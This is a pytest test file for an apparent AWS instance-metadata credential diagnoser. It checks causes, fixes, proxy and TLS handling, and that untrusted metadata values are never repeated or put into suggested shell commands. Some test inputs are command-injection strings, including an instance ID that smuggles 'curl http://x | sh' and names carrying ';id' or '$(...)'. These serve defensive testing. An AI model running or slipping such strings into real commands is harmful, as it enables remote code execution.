"""Instance metadata that provides no credentials: each cause, actually produced by the stand-in."""

from __future__ import annotations

import json
import os
import socket
import ssl
from contextlib import AbstractContextManager
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from credhelper.aws.imds import diagnose, diagnose_missing_keys, instance_region, instance_role
from tests.conftest import UNREACHABLE
from tests.contract.http_server import serve_answer, serve_by_path

if TYPE_CHECKING:
    from credhelper.errors import HelperError
    from tests.fake_ec2.services import Loopback


def get_endpoint(cloud: Loopback) -> str:
    return cloud.environment()["AWS_EC2_METADATA_SERVICE_ENDPOINT"]


def diagnose_endpoint(endpoint: str) -> HelperError:
    """Diagnose an endpoint as the exchange does if botocore then finds no keys."""
    role_info = instance_role(endpoint)
    return role_info.diagnosis or diagnose_missing_keys(endpoint, role_info.name)


@pytest.mark.parametrize(
    ("behaviour", "id_", "clause", "fix"),
    [
        ("off", "metadata-off", "turned off (it answers 403)", "--http-endpoint enabled"),
        ("no-role", "no-role", "no role is attached", "--instance-id i-0abcdef1234567890 --iam-instance-profile"),
        ("untrusted", "role-untrusted", "EC2 may not assume the role app-role", "ec2.amazonaws.com"),
        ("hop-limit", "metadata-hop-limit", "IMDS hop limit is 1", "--http-put-response-hop-limit 2"),
        ("silent", "no-credentials", "the instance metadata service did not respond", "aws configure"),
        ("on", "metadata-failed", "returned no keys for the role app-role, but returns them now", "try again"),
        ("refused-token", "metadata-refused", "answered 401", "MetadataOptions"),
        ("fail", "metadata-failed", "answered 500", "try again"),
    ],
)
def test_a_cause_is_found_and_its_fix_is_named(
    cloud: Loopback, behaviour: str, id_: str, clause: str, fix: str
) -> None:
    cloud.configure(metadata=behaviour)
    diagnosis = diagnose_endpoint(get_endpoint(cloud))
    assert diagnosis.id == id_
    assert clause in str(diagnosis)
    assert fix in diagnosis.fix


def test_a_role_is_identified_by_its_instance_profile_and_its_name(cloud: Loopback) -> None:
    arn, id_, name = instance_role(get_endpoint(cloud)).identity.split(" ")
    assert arn.startswith("arn:aws:iam::123456789012:instance-profile/")
    assert id_.startswith("AIPA")
    assert name == "app-role"


def test_roles_of_one_name_in_two_accounts_are_distinguished(cloud: Loopback) -> None:
    role = instance_role(get_endpoint(cloud)).identity
    cloud.configure(account="210987654321")
    assert instance_role(get_endpoint(cloud)).identity != role


def test_an_instance_without_a_role_has_the_identity_none(cloud: Loopback) -> None:
    cloud.configure(metadata="no-role")
    assert instance_role(get_endpoint(cloud)).identity == "none"


def test_an_endpoint_where_no_server_listens_has_no_metadata() -> None:
    assert "the instance metadata service did not respond" in str(diagnose_endpoint(UNREACHABLE))


def test_a_proxy_is_not_used_for_metadata(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("http_proxy", UNREACHABLE)
    cloud.configure(metadata="no-role")
    assert "no role" in diagnose_endpoint(get_endpoint(cloud)).why


def test_a_proxy_that_botocore_uses_for_metadata_is_named(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("http_proxy", UNREACHABLE)
    diagnosis = diagnose_endpoint(get_endpoint(cloud))
    assert diagnosis.id == "metadata-proxied"
    assert "http_proxy makes botocore send" in str(diagnosis)


def test_a_proxy_that_is_not_for_metadata_is_not_blamed(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("http_proxy", UNREACHABLE)
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    assert diagnose_endpoint(get_endpoint(cloud)).id == "metadata-failed"


def test_a_server_that_does_not_speak_http_is_not_metadata() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0)  # the kernel accepts the connection, and no answer ever follows
        port = server.getsockname()[1]
        assert "the instance metadata service did not respond" in str(diagnose_endpoint(f"http://127.0.0.1:{port}"))


@pytest.mark.parametrize("page", [b"<html>\r\nplease log in\r\n</html>", b"\xff\xfe", "r\u00f6le".encode()])
def test_a_server_that_returns_an_invalid_token_is_not_metadata(page: bytes) -> None:
    with serve_answer(page) as url:
        assert "an invalid session token" in str(diagnose_endpoint(url))


@pytest.mark.parametrize(
    "url",
    [
        "nowhere",
        "http://[::1",
        "http://127.0.0.1:x",
        "http://" + "a" * 300,
        "http://\u00fc..de",
        "file:///etc",
        "ftp://127.0.0.1:9",
    ],
)
def test_an_invalid_endpoint_is_not_called(url: str) -> None:
    assert "address of the instance metadata service is not a URL" in str(diagnose_endpoint(url))


def test_an_endpoint_with_a_path_that_cannot_be_requested_has_no_metadata() -> None:
    assert diagnose_endpoint(f"{UNREACHABLE}/\u00fc\udc80").id == "no-credentials"


def test_no_tls_context_is_created_for_an_http_endpoint(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object) -> None:
        raise AssertionError("a TLS context was created")

    monkeypatch.setattr(ssl, "SSLContext", refuse)
    assert instance_role(get_endpoint(cloud)).name == "app-role"


def test_an_https_endpoint_with_a_trusted_certificate_is_called(
    impostor: Loopback, authority: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SSL_CERT_FILE", str(authority / "ca.crt"))
    assert instance_role(os.environ["AWS_ENDPOINT_URL"]).name == "app-role"
    assert impostor.count_calls()["metadata"] == 3


def test_an_https_endpoint_with_an_untrusted_certificate_receives_nothing(impostor: Loopback) -> None:
    assert diagnose_endpoint(os.environ["AWS_ENDPOINT_URL"]).id == "no-credentials"
    assert impostor.read_log() == []


@pytest.mark.parametrize("url", ["file:///etc/hostname?", "ftp://127.0.0.1:9", "data:,eu-west-1?", "nowhere"])
def test_an_endpoint_with_another_scheme_has_no_region(url: str) -> None:
    assert instance_region(url) == ""


def test_the_request_for_a_session_token_follows_no_redirect() -> None:
    with serve_answer(b"evil") as other, serve_answer(b"token", 302, Location=other) as url:
        assert "answered 302" in str(diagnose_endpoint(url))


def test_the_name_of_a_role_is_quoted_for_a_shell() -> None:
    with serve_answer({"Code": "AssumeRoleUnauthorizedAccess"}) as url:
        assert "--role-name 'a;id' " in diagnose_missing_keys(url, "a;id").fix


def test_a_service_with_neither_a_token_nor_a_role_is_not_that_of_ec2() -> None:
    with serve_answer(b"", 404) as url:
        role_info = instance_role(url)
    assert role_info.identity == ""
    assert role_info.diagnosis is not None
    assert "issues no session token and has no role" in str(role_info.diagnosis)
    assert "associate-iam-instance-profile" not in role_info.diagnosis.fix


DOCUMENT = {
    "Code": "Success",
    "Type": "AWS-HMAC",
    "AccessKeyId": "ASIAIOSFODNN7EXAMPLE",
    "SecretAccessKey": "hiddenK7MDENGbPxRfiCYEXAMPLEKEYhidden4321",
    "Token": "hidden-token",
}
NOT_A_ROLE = [
    DOCUMENT,
    json.dumps(DOCUMENT, indent=1).encode(),
    b"<html>hidden</html>",
    b"app role hidden",
    b"app-role\nhidden",
    b"app-role/hidden",
    b"hidden\x1b[2J",
    "hidden-r\u00f6le".encode(),
    b"hidden" * 11,
    b"hidden" * 200_000,
    b"hidden;id",
    b"$(hidden)",
    b"\xffhidden",
]


def imds(
    role: object, info: object = b"", instance: bytes = b"", role_status: int = 200
) -> AbstractContextManager[str]:
    """Serve instance metadata with these answers; the context manager returns its URL."""
    return serve_by_path(
        {
            "/latest/api/token": (200, b"token"),
            "/latest/meta-data/iam/security-credentials/": (role_status, role),
            "/latest/meta-data/iam/info": (200, info),
            "/latest/meta-data/instance-id": (200, instance),
            "/latest/meta-data/placement/region": (200, instance),
        }
    )


@pytest.mark.parametrize("role", NOT_A_ROLE)
def test_an_invalid_role_name_is_not_repeated(role: object) -> None:
    with imds(role) as url:
        role_info = instance_role(url)
        error = diagnose(url)
    assert error.id == "metadata-failed"
    assert "an invalid role name" in str(error)
    assert "hidden" not in repr((role_info, error))


@pytest.mark.parametrize("role", ["app-role", "a", "x" * 64, "a+b=c,d.e@f-g_h", "app-role\n"])
def test_a_valid_role_name_is_accepted(role: str) -> None:
    with imds(role.encode()) as url:
        assert instance_role(url).name == role.strip()


@pytest.mark.parametrize(
    "info",
    [
        DOCUMENT,
        b"hidden",
        b"[" * 60_000,
        {"InstanceProfileArn": "hidden", "InstanceProfileId": "AIPA1"},
        {"InstanceProfileArn": "arn:aws:iam::123456789012:instance-profile/app", "InstanceProfileId": "hidden"},
        {"InstanceProfileArn": "arn:aws:iam::123456789012:instance-profile/a b", "InstanceProfileId": "AIPA1"},
        {"InstanceProfileArn": DOCUMENT, "InstanceProfileId": DOCUMENT},
    ],
)
def test_an_invalid_instance_profile_is_not_kept(info: object) -> None:
    with imds(b"app-role", info) as url:
        assert instance_role(url).identity == ""


@pytest.mark.parametrize("id_", [b"hidden", b"i-0; curl http://x | sh #", b"i-0\n1", b"i-" + b"0" * 1000, b"I-0"])
def test_an_invalid_instance_id_is_not_in_the_command(id_: bytes) -> None:
    with imds(b"", instance=id_, role_status=404) as url:
        assert "--instance-id ID --iam" in diagnose_endpoint(url).fix


@pytest.mark.parametrize("name", [b"hidden secret", b"us-east-1; id", b"US", b"x" * 100, json.dumps(DOCUMENT).encode()])
def test_an_invalid_region_is_not_repeated(name: bytes) -> None:
    with imds(b"", instance=name) as url:
        assert instance_region(url) == ""


@pytest.mark.parametrize("code", ["hidden code", "hidden" * 50, {"hidden": 1}, "hidden\x1b[2J", "hidden\n", 1])
def test_an_invalid_code_is_not_repeated(code: object) -> None:
    with serve_answer({"Code": code}) as url:
        error = diagnose_missing_keys(url, "app-role")
    assert "hidden" not in repr(error)
    assert "an unknown code" in str(error)
